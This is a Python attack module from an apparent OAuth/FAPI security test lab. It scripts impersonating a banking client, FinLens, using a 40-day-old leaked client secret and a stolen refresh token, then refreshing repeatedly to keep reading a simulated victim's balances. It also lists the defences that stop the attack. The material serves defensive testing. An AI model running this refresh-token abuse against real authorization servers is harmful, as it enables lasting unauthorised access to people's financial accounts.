"""client-impersonation-leaked-secret: FinLens impersonated with an old leaked secret.

A4 with a leak: the attacker holds a refresh token from the token leg and FinLens's
client secret from a 40-day-old configuration backup. It refreshes as FinLens, lets
FinLens refresh too (the lab clock runs past the access token's lifetime and the victim
opens her dashboard), then refreshes again with the newest refresh token it holds: the
access lasts as long as the secret does. FAPI2 §5.3.2.1 allows no secrets at all; with
rotation, BCP §4.14.2 revokes the family once the superseded token comes back.
"""

from __future__ import annotations

from attacker import leaks
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.premises import linked_victim
from lab import clock
from lab.tpp.dpop_signer import Signer

PAST_EXPIRY = 7200   # past a 3600 s access token: FinLens refreshes on the next dashboard
BACKUP_AGE = 40 * 86400   # the premise: the backup (and the secret in it) is 40 days old


def _refresh(ctx: AttackContext, refresh_token: str, client: tuple[str, str],
             signer: Signer | None, what: str) -> ts.Tokens:
    client_id, secret = client
    form = {"grant_type": "refresh_token", "refresh_token": refresh_token,
            "client_id": client_id, "client_secret": secret}
    response = ts.post_token(ctx, form, signer=signer, what=what)
    return ts.tokens_or_fail(ctx, response, "the AS refused the refresh with the leaked secret")


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    refresh_token = ts.captured_refresh_token(ctx)
    client = leaks.tpp_secret(ctx)
    # 40 days after the secret was issued (FinLens rotates it, maybe at a lab time an earlier
    # run moved ahead to), and 40 days on from now at least.
    issued = leaks.tpp_secret_issued_at(ctx)
    ctx.advance_clock(max(BACKUP_AGE, (issued or 0) + BACKUP_AGE - clock.now(ctx.store)))
    ctx.step("lab", "40 days on: the secret in the backup is past its client_secret_expires_at "
             "(RFC 7591 §3.2.1), unless the AS ignores expiry")
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    first = _refresh(ctx, refresh_token, client, signer,
                     "POST /token grant_type=refresh_token as FinLens (client_secret_post, "
                     "the leaked secret)")
    ts.read_balances(ctx, first, signer=signer)
    held = first.refresh_token or refresh_token
    ctx.advance_clock(PAST_EXPIRY)
    victim.dashboard()
    ctx.step("lab", "FinLens finds the access token expired and refreshes with the refresh "
             "token it holds")
    later = _refresh(ctx, held, client, signer,
                     "POST /token grant_type=refresh_token again, with the newest refresh token "
                     "it holds")
    balances = ts.read_balances(ctx, later, signer=signer)
    ctx.succeeded(f"still refreshing as FinLens after FinLens's own refresh; read "
                  f"{len(balances)} balances", balances)


ATTACK = Attack(
    id="client-impersonation-leaked-secret", attacker="A4", legs=("token",),
    title="Client impersonated with an old leaked secret + a stolen refresh token, for lasting "
          "access",
    blocked_by=("private_key_jwt_only", "mtls_client_auth", "client_secret_rotation",
                "refresh_rotation_reuse_detection"),
    grants=(leaks.LEAKED_TPP_SECRET,), victim="prior",
    premise="Holds a refresh token from the token leg and FinLens's client secret, leaked 40 "
            "days ago in an old configuration backup.",
    goal="lasting access: the victim's balances still readable after FinLens's own refresh",
    run=run, refs=("BCP §2.5", "BCP §4.14.2", "RFC 7591 §3.2.1", "FAPI2 §5.3.2.1"),
)
